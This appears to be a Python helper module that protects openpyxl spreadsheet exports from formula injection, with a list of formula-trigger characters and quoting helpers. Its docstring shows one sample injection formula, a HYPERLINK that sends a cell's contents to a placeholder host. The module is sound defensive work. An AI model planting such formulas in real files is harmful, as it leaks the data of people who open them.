"""Text in the spreadsheets we write stays text: the one rule every openpyxl writer follows.

openpyxl turns a string that starts with ``=`` into a formula and one of Excel's error codes
(``#N/A``…) into an error cell. A name like ``=HYPERLINK("http://x/?x="&A1,"klik")`` would then
run when the export is opened. Every writer puts its text through :func:`sel` (write-only
sheets, ``ws.append``) or :func:`isi` (ordinary sheets): the cell's type is forced back to a
string, so the text is stored unchanged and never evaluated (no ``'`` added: the xlsx cell type
is enough).

A prefix is only needed where a file has no cell types (CSV or text meant for a spreadsheet):
there :func:`dengan_kutip` adds one ``'`` before ``= + - @ TAB CR``, and the importer strips
exactly one (:func:`tanpa_kutip`, used by ``impor.sel``). We write no such file today.
Text that already starts with ``'`` and one of those characters gets one more ``'`` in every
file, so that the importer's stripping gives it back unchanged.
"""

from __future__ import annotations

from openpyxl.cell import Cell, WriteOnlyCell

# Characters a spreadsheet may read as the start of a formula (OWASP's CSV injection list).
PEMICU = ("=", "+", "-", "@", "\t", "\r")


def _berkutip(teks: str) -> bool:
    """An apostrophe the importer would strip: one ``'`` right before a formula character."""
    return len(teks) > 1 and teks[0] == "'" and teks.lstrip("'")[:1] in PEMICU


def teks_tersimpan(teks: str) -> str:
    """The text to store in a typed cell: unchanged, except one ``'`` more when it already
    starts with quotes before a formula character (the importer strips exactly one)."""
    return "'" + teks if _berkutip(teks) else teks


def dengan_kutip(teks: str) -> str:
    """Text for a file without cell types: one ``'`` before a leading formula character."""
    if teks[:1] in PEMICU or _berkutip(teks):
        return "'" + teks
    return teks


def tanpa_kutip(teks: str) -> str:
    """What the importer reads: exactly one leading ``'`` removed before a formula character
    (``'=x`` → ``=x``; ``''=x`` → ``'=x``, the text :func:`teks_tersimpan` doubled)."""
    return teks[1:] if _berkutip(teks) else teks


def _sebagai_teks(c: Cell, v) -> Cell:
    if isinstance(v, str):
        c.value = teks_tersimpan(v)
        c.data_type = "s"  # never "f" (formula) or "e" (error code)
    return c


def sel(ws, v, **gaya):
    """A cell for ``ws.append`` (write-only or ordinary sheets): text as a string cell, other
    values as they are; ``gaya`` sets attributes such as ``font`` or ``number_format``."""
    if not isinstance(v, str) and not gaya:
        return v
    c = WriteOnlyCell(ws, v if not isinstance(v, str) else None)
    _sebagai_teks(c, v)
    for nama, nilai in gaya.items():
        setattr(c, nama, nilai)
    return c


def baris(ws, nilai) -> list:
    """A row for ``ws.append`` with every text value a string cell."""
    return [sel(ws, v) for v in nilai]


def isi(ws, row: int, column: int, v) -> Cell:
    """``ws.cell(row, column, v)`` for ordinary sheets, text as a string cell."""
    c = ws.cell(row=row, column=column)
    if isinstance(v, str):
        return _sebagai_teks(c, v)
    c.value = v
    return c
